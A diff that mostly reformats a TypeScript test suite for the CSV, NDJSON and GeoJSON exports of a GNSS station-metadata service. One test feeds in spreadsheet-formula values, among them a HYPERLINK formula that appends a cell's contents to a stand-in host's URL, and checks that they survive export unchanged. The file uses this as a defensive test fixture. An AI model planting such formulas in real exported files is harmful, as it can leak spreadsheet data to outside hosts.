@@ -7,7 +7,9 @@ import { elementsIn, type Paged, refused } from './answers.js';
 function parseCsv(t: Test, text: string): Record<string, string>[] {
   t.match(text, /\r\n$/);
   const records: string[][] = [[]];
-  for (const [, quoted, plain, end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
+  for (const [, quoted, plain, end] of text.matchAll(
+    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g,
+  )) {
     records.at(-1)!.push(quoted?.replaceAll('""', '"') ?? plain!);
     if (end === '\r\n') records.push([]);
   }
@@ -30,7 +32,11 @@ const idsIn = (elements: { id: number }[]): number[] => elements.map(({ id }) =>
 async function exported(t: Test, { get }: Pick<Service, 'get'>, name: string, query = '') {
   const read = async (format: string, mediaType: string): Promise<string> => {
     const { statusCode, headers, body } = await get(`/exports/${name}.${format}?${query}`);
-    t.match([statusCode, headers], [200, { ...FIXED_HEADERS, 'content-type': mediaType }], body.slice(0, 200));
+    t.match(
+      [statusCode, headers],
+      [200, { ...FIXED_HEADERS, 'content-type': mediaType }],
+      body.slice(0, 200),
+    );
     return body;
   };
   const csv = parseCsv(t, await read('csv', 'text/csv;charset=UTF-8;header=present'));
@@ -40,7 +46,10 @@ async function exported(t: Test, { get }: Pick<Service, 'get'>, name: string, qu
     .slice(0, -1)
     .map((line) => JSON.parse(line) as Record<string, unknown> & { id: number });
   const component = `Exported${name[0]!.toUpperCase()}${name.slice(1, -1)}`;
-  const geojson = JSON.parse(await read('geojson', 'application/geo+json;charset=UTF-8')) as { type: string; features: Feature[] };
+  const geojson = JSON.parse(await read('geojson', 'application/geo+json;charset=UTF-8')) as {
+    type: string;
+    features: Feature[];
+  };
   const wrong = ndjson.flatMap((element) => violations(component, element));
   t.same([wrong, geojson.type], [[], 'FeatureCollection'], component);
   const ids = idsIn(ndjson);
@@ -53,29 +62,41 @@ async function exported(t: Test, { get }: Pick<Service, 'get'>, name: string, qu
   return { csv, ndjson, features: geojson.features };
 }
 
-t.test('CSV contains values that a spreadsheet takes for formulas exactly as they are on record', async (t) => {
-  const service = await openService(t);
-  const formulas = ['=HYPERLINK("http://x.example/"&A1)', '+1+1', '-2+3', '@SUM(A1)', "'=1"];
-  await service.importText({
-    receivers: formulas.map((serial, n) => ({ type: serial, serial, from: `200${n}-01-01`, to: `200${n}-02-01` })),
-  });
-  const { csv } = await exported(t, service, 'installations');
-  t.same(
-    csv.map(({ type, serialNumber }) => [type, serialNumber]),
-    formulas.map((each) => [each, each]),
-  );
-});
+t.test(
+  'CSV contains values that a spreadsheet takes for formulas exactly as they are on record',
+  async (t) => {
+    const service = await openService(t);
+    const formulas = ['=HYPERLINK("http://x.example/"&A1)', '+1+1', '-2+3', '@SUM(A1)', "'=1"];
+    await service.importText({
+      receivers: formulas.map((serial, n) => ({
+        type: serial,
+        serial,
+        from: `200${n}-01-01`,
+        to: `200${n}-02-01`,
+      })),
+    });
+    const { csv } = await exported(t, service, 'installations');
+    t.same(
+      csv.map(({ type, serialNumber }) => [type, serialNumber]),
+      formulas.map((each) => [each, each]),
+    );
+  },
+);
 
 t.test('exports have what the collections have', async (t) => {
   const service = await openService(t, [SAMPLE]);
   type Element = Record<string, unknown>;
-  const all = async (url: string): Promise<Element[]> => elementsIn((await service.get(url)).json<Paged>());
+  const all = async (url: string): Promise<Element[]> =>
+    elementsIn((await service.get(url)).json<Paged>());
   const plain = ({ _links, ...element }: Element): Element => element;
 
   const sites = await exported(t, service, 'sites');
   t.same(sites.ndjson, (await all('/corsSites?size=1000')).map(plain));
   const alic = sites.features.find(({ properties }) => properties.fourCharacterId === 'ALIC')!;
-  t.match(alic, { type: 'Feature', geometry: { type: 'Point', coordinates: [133.88551389, -23.670125] } });
+  t.match(alic, {
+    type: 'Feature',
+    geometry: { type: 'Point', coordinates: [133.88551389, -23.670125] },
+  });
   t.notOk('latitude' in alic.properties);
   const row = sites.csv.find(({ fourCharacterId }) => fourCharacterId === 'ALIC');
   t.match(row, { latitude: '-23.670125', countryCode: 'AUS' });
@@ -83,101 +104,215 @@ t.test('exports have what the collections have', async (t) => {
   const setups = await exported(t, service, 'setups');
   const ofSites = setups.ndjson.map(({ site: _site, ...setup }) => setup);
   t.same(ofSites, (await all('/setups?size=1000')).map(plain));
-  for (const query of ['mergeGaps=PT0S', 'mergeGaps=P30D', 'mergeGaps=P1D&recordedSince=2000-01-01']) {
+  for (const query of [
+    'mergeGaps=PT0S',
+    'mergeGaps=P30D',
+    'mergeGaps=P1D&recordedSince=2000-01-01',
+  ]) {
     const inOrder = (changes: Element[]) =>
-      changes.map(({ siteId, at, kind, equipmentType, gap }) => JSON.stringify([siteId, at, kind, equipmentType, gap])).sort();
+      changes
+        .map(({ siteId, at, kind, equipmentType, gap }) =>
+          JSON.stringify([siteId, at, kind, equipmentType, gap]),
+        )
+        .sort();
     const merged = (await exported(t, service, 'changes', query)).ndjson;
     t.same(inOrder(merged), inOrder(await all(`/changes?size=1000&${query}`)), query);
   }
   const changes = await exported(t, service, 'changes');
-  const different = new Set(changes.ndjson.map(({ id: _id, site: _site, ...change }) => JSON.stringify(change)));
+  const different = new Set(
+    changes.ndjson.map(({ id: _id, site: _site, ...change }) => JSON.stringify(change)),
+  );
   t.equal(different.size, (await all('/changes?size=1000')).length);
   const names = Object.keys(setups.csv[0]!);
   t.notMatch(names.join(), /([a-z]{4,})\1/i);
   const filled = names.filter((name) => setups.csv.some((setup) => setup[name] !== ''));
-  for (const name of ['antennaReferencePoint', 'antennaCableType', 'humiditySensorManufacturer', 'humiditySensorAspiration'])
+  for (const name of [
+    'antennaReferencePoint',
+    'antennaCableType',
+    'humiditySensorManufacturer',
+    'humiditySensorAspiration',
+  ])
     t.ok(filled.includes(name), name);
   const installations = await exported(t, service, 'installations');
   t.ok(installations.ndjson.length > 50, `${installations.ndjson.length} installations`);
   t.ok(installations.csv.every(({ equipmentType }) => equipmentType !== ''));
-  const unknown = installations.csv.filter(({ from }) => from === '').map(({ equipmentType }) => equipmentType);
+  const unknown = installations.csv
+    .filter(({ from }) => from === '')
+    .map(({ equipmentType }) => equipmentType);
   t.same(unknown, ['temperature sensor', 'other instrument']);
 });
 
-t.test('changes are an offset list: the values before and after, and the end of the gap', async (t) => {
-  const service = await openService(t);
-  const eccentricity = (up: string) => ({ 'Marker->ARP Up Ecc. (m)': up, 'Marker->ARP North Ecc(m)': '0', 'Marker->ARP East Ecc(m)': '' });
-  const antenna = { type: 'LEIAR25.R3      LEIT', serial: '09370012', from: '2011-01-01', to: '2012-01-01' };
-  await service.importText({
-    receivers: [
-      { type: 'R1', serial: '1', from: '2011-01-01', to: '2013-01-01', more: { 'Firmware Version': '1.0' } },
-      { type: 'R1', serial: '1', from: '2013-01-01T06:00Z', to: '2014-01-01', more: { 'Firmware Version': '2.0' } },
-    ],
-    antennas: [
-      { ...antenna, more: eccentricity('0.0015') },
-      { ...antenna, from: '2012-01-01', to: '', type: 'LEIAR25.R3', more: { ...eccentricity('1'), 'Antenna Radome Type': 'NONE' } },
-    ],
-  });
-  const { csv, features } = await exported(t, service, 'changes');
-  const eccentricities = ['Up', 'North', 'East'].map((each) => `markerArp${each}Eccentricity`);
-  const names = ['model', 'radome', 'serialNumber', 'firmwareVersion', ...eccentricities];
-  t.same(Object.keys(csv[0]!).slice(7, -1), [
-    ...['at', 'gapTo', 'equipmentType', 'kind'],
-    ...names.flatMap((name) => [`${name}Before`, `${name}After`]),
-  ]);
-  t.same(
-    csv.map((row) => [row.at!.slice(0, 10), row.gapTo, row.kind, ...names.map((name) => `${row[`${name}Before`]}>${row[`${name}After`]}`)]),
-    [
-      ['2011-01-01', '', 'installed', '>R1', '>', '>1', '>1.0', '>', '>', '>'],
-      ['2011-01-01', '', 'installed', '>LEIAR25.R3', '>LEIT', '>09370012', '>', '>0.0015', '>0', '>'],
-      ['2012-01-01', '', 'reconfigured', 'LEIAR25.R3>LEIAR25.R3', 'LEIT>NONE', '09370012>09370012', '>', '0.0015>1', '0>0', '>'],
-      ['2013-01-01', '2013-01-01T06:00:00Z', 'reconfigured', 'R1>R1', '>', '1>1', '1.0>2.0', '>', '>', '>'],
-      ['2014-01-01', '', 'removed', 'R1>', '>', '1>', '2.0>', '>', '>', '>'],
-    ],
-  );
-  const [, , radome] = features;
-  t.match(radome!.properties, {
-    gapTo: null,
-    firmwareVersionBefore: null,
-    markerArpUpEccentricityBefore: 0.0015,
-    markerArpEastEccentricityAfter: null,
-  });
-});
+t.test(
+  'changes are an offset list: the values before and after, and the end of the gap',
+  async (t) => {
+    const service = await openService(t);
+    const eccentricity = (up: string) => ({
+      'Marker->ARP Up Ecc. (m)': up,
+      'Marker->ARP North Ecc(m)': '0',
+      'Marker->ARP East Ecc(m)': '',
+    });
+    const antenna = {
+      type: 'LEIAR25.R3      LEIT',
+      serial: '09370012',
+      from: '2011-01-01',
+      to: '2012-01-01',
+    };
+    await service.importText({
+      receivers: [
+        {
+          type: 'R1',
+          serial: '1',
+          from: '2011-01-01',
+          to: '2013-01-01',
+          more: { 'Firmware Version': '1.0' },
+        },
+        {
+          type: 'R1',
+          serial: '1',
+          from: '2013-01-01T06:00Z',
+          to: '2014-01-01',
+          more: { 'Firmware Version': '2.0' },
+        },
+      ],
+      antennas: [
+        { ...antenna, more: eccentricity('0.0015') },
+        {
+          ...antenna,
+          from: '2012-01-01',
+          to: '',
+          type: 'LEIAR25.R3',
+          more: { ...eccentricity('1'), 'Antenna Radome Type': 'NONE' },
+        },
+      ],
+    });
+    const { csv, features } = await exported(t, service, 'changes');
+    const eccentricities = ['Up', 'North', 'East'].map((each) => `markerArp${each}Eccentricity`);
+    const names = ['model', 'radome', 'serialNumber', 'firmwareVersion', ...eccentricities];
+    t.same(Object.keys(csv[0]!).slice(7, -1), [
+      ...['at', 'gapTo', 'equipmentType', 'kind'],
+      ...names.flatMap((name) => [`${name}Before`, `${name}After`]),
+    ]);
+    t.same(
+      csv.map((row) => [
+        row.at!.slice(0, 10),
+        row.gapTo,
+        row.kind,
+        ...names.map((name) => `${row[`${name}Before`]}>${row[`${name}After`]}`),
+      ]),
+      [
+        ['2011-01-01', '', 'installed', '>R1', '>', '>1', '>1.0', '>', '>', '>'],
+        [
+          '2011-01-01',
+          '',
+          'installed',
+          '>LEIAR25.R3',
+          '>LEIT',
+          '>09370012',
+          '>',
+          '>0.0015',
+          '>0',
+          '>',
+        ],
+        [
+          '2012-01-01',
+          '',
+          'reconfigured',
+          'LEIAR25.R3>LEIAR25.R3',
+          'LEIT>NONE',
+          '09370012>09370012',
+          '>',
+          '0.0015>1',
+          '0>0',
+          '>',
+        ],
+        [
+          '2013-01-01',
+          '2013-01-01T06:00:00Z',
+          'reconfigured',
+          'R1>R1',
+          '>',
+          '1>1',
+          '1.0>2.0',
+          '>',
+          '>',
+          '>',
+        ],
+        ['2014-01-01', '', 'removed', 'R1>', '>', '1>', '2.0>', '>', '>', '>'],
+      ],
+    );
+    const [, , radome] = features;
+    t.match(radome!.properties, {
+      gapTo: null,
+      firmwareVersionBefore: null,
+      markerArpUpEccentricityBefore: 0.0015,
+      markerArpEastEccentricityAfter: null,
+    });
+  },
+);
 
 t.test('exports are filtered by an instant or a period', async (t) => {
   const service = await openService(t, [SAMPLE]);
   const at = await exported(t, service, 'setups', 'at=2013-07-08T00:45:00Z');
   const ids = at.csv.map(({ fourCharacterId }) => `id=${fourCharacterId}`).join('&');
-  const list = (await service.get(`/setups/search/findAtByFourCharacterIdIn?at=2013-07-08T00:45:00Z&${ids}`)).json<Paged<{ id: number }>>();
+  const list = (
+    await service.get(`/setups/search/findAtByFourCharacterIdIn?at=2013-07-08T00:45:00Z&${ids}`)
+  ).json<Paged<{ id: number }>>();
   const expected = idsIn(elementsIn(list)).sort((a, b) => a - b);
   t.same(idsIn(at.ndjson), expected);
   t.same((await exported(t, service, 'sites', 'at=1900-01-01')).csv, []);
   const receivers = async (query: string): Promise<number> =>
-    (await exported(t, service, 'installations', `site=alic&equipmentType=gnss%20receiver&${query}`)).csv.length;
+    (
+      await exported(
+        t,
+        service,
+        'installations',
+        `site=alic&equipmentType=gnss%20receiver&${query}`,
+      )
+    ).csv.length;
   t.equal(await receivers('at=2012-01-01'), 1);
   t.ok((await receivers('from=2011-01-01&to=2014-01-01')) > 1);
   const setups = await exported(t, service, 'setups', 'site=alic&from=2011-12-12&to=2014-12-12');
   t.equal(setups.csv.length, 3, 'the Setups that overlap a period');
 });
 
-t.test('exports of Sites and installations find words, as /corsSites and /equipment do', async (t) => {
-  const service = await openService(t, [SAMPLE]);
-  for (const id of ['TEST00FRA', 'TEST00AUS']) await service.importText({ id, receivers: [{ type: 'R1', from: '2001-01-01' }] });
-  for (const q of ['test00fra%20r1', 'alice', 'leica', 'ROGUE%20snr-8000', 'alice&bbox=0,0,10,10', 'nothing-like-it', '%00', '%20']) {
-    const sites = (await service.get(`/corsSites?size=1000&q=${q}`)).json<Paged<{ id: number }>>();
-    const ids = idsIn(elementsIn(sites)).sort((a, b) => a - b);
-    t.same(idsIn((await exported(t, service, 'sites', `q=${q}`)).ndjson), ids, q);
-  }
-  t.match((await exported(t, service, 'sites', 'q=test00fra%20r1')).csv, [{ nineCharacterId: 'TEST00FRA' }]);
-  for (const q of ['leica', '1830439', 'trimble%20netrs', 'nothing-like-it', '%00']) {
-    const found = (await exported(t, service, 'installations', `q=${q}`)).csv;
-    type Named = { type: string; serialNumber: string | null };
-    const devices = elementsIn((await service.get(`/equipment?size=1000&q=${q}`)).json<Paged<Named>>());
-    const namesOf = (named: Named[]) => new Set(named.map(({ type, serialNumber }) => `${type} ${serialNumber ?? ''}`));
-    t.same(namesOf(found as unknown as Named[]), namesOf(devices), q);
-  }
-  t.equal((await service.get('/exports/setups.csv?q=alice')).statusCode, 400);
-});
+t.test(
+  'exports of Sites and installations find words, as /corsSites and /equipment do',
+  async (t) => {
+    const service = await openService(t, [SAMPLE]);
+    for (const id of ['TEST00FRA', 'TEST00AUS'])
+      await service.importText({ id, receivers: [{ type: 'R1', from: '2001-01-01' }] });
+    for (const q of [
+      'test00fra%20r1',
+      'alice',
+      'leica',
+      'ROGUE%20snr-8000',
+      'alice&bbox=0,0,10,10',
+      'nothing-like-it',
+      '%00',
+      '%20',
+    ]) {
+      const sites = (await service.get(`/corsSites?size=1000&q=${q}`)).json<
+        Paged<{ id: number }>
+      >();
+      const ids = idsIn(elementsIn(sites)).sort((a, b) => a - b);
+      t.same(idsIn((await exported(t, service, 'sites', `q=${q}`)).ndjson), ids, q);
+    }
+    t.match((await exported(t, service, 'sites', 'q=test00fra%20r1')).csv, [
+      { nineCharacterId: 'TEST00FRA' },
+    ]);
+    for (const q of ['leica', '1830439', 'trimble%20netrs', 'nothing-like-it', '%00']) {
+      const found = (await exported(t, service, 'installations', `q=${q}`)).csv;
+      type Named = { type: string; serialNumber: string | null };
+      const devices = elementsIn(
+        (await service.get(`/equipment?size=1000&q=${q}`)).json<Paged<Named>>(),
+      );
+      const namesOf = (named: Named[]) =>
+        new Set(named.map(({ type, serialNumber }) => `${type} ${serialNumber ?? ''}`));
+      t.same(namesOf(found as unknown as Named[]), namesOf(devices), q);
+    }
+    t.equal((await service.get('/exports/setups.csv?q=alice')).statusCode, 400);
+  },
+);
 
 t.test('values of any kind survive CSV, and an empty database gives empty tables', async (t) => {
   const { get, importText, app } = await openService(t);
@@ -193,21 +328,34 @@ t.test('values of any kind survive CSV, and an empty database gives empty tables
       { type: 'R', serial: '3', from: '2001-01-01' },
     ],
   });
-  t.match((await exported(t, { get }, 'sites')).csv, [{ name: 'A "quoted", name', latitude: '', longitude: '' }]);
+  t.match((await exported(t, { get }, 'sites')).csv, [
+    { name: 'A "quoted", name', latitude: '', longitude: '' },
+  ]);
   t.match((await exported(t, { get }, 'sites')).features, [{ geometry: null }]);
-  t.match((await exported(t, { get }, 'setups')).csv, [{ receiverSerialNumber: '1,"2" | 3', effectiveTo: '', current: 'true' }]);
+  t.match((await exported(t, { get }, 'setups')).csv, [
+    { receiverSerialNumber: '1,"2" | 3', effectiveTo: '', current: 'true' },
+  ]);
   const head = await app.inject({ method: 'HEAD', url: '/exports/sites.csv' });
   t.match([head.statusCode, head.body], [200, '']);
   t.notOk('content-length' in head.headers, 'the answer to GET has none either');
 });
 
-t.test('a value that the list of a path parameter does not have is 404 with the list', async (t) => {
-  const service = await openService(t);
-  for (const [path, detail] of [
-    ['/exports/sites.xml', 'There is no format "xml" here. There are: csv, ndjson, geojson.'],
-    ['/ogc/collections/setups/items?limit=1', 'There is no collectionId "setups" here. There are: sites, installations.'],
-    ['/profile/pressureSensors', /^There is no name "pressureSensors" here\. There are: setups, corsSites, .*, equipment\.$/],
-  ] as const) {
-    t.match(await refused(t, service, path, 404, 'not-found'), { detail }, path);
-  }
-});
+t.test(
+  'a value that the list of a path parameter does not have is 404 with the list',
+  async (t) => {
+    const service = await openService(t);
+    for (const [path, detail] of [
+      ['/exports/sites.xml', 'There is no format "xml" here. There are: csv, ndjson, geojson.'],
+      [
+        '/ogc/collections/setups/items?limit=1',
+        'There is no collectionId "setups" here. There are: sites, installations.',
+      ],
+      [
+        '/profile/pressureSensors',
+        /^There is no name "pressureSensors" here\. There are: setups, corsSites, .*, equipment\.$/,
+      ],
+    ] as const) {
+      t.match(await refused(t, service, path, 404, 'not-found'), { detail }, path);
+    }
+  },
+);
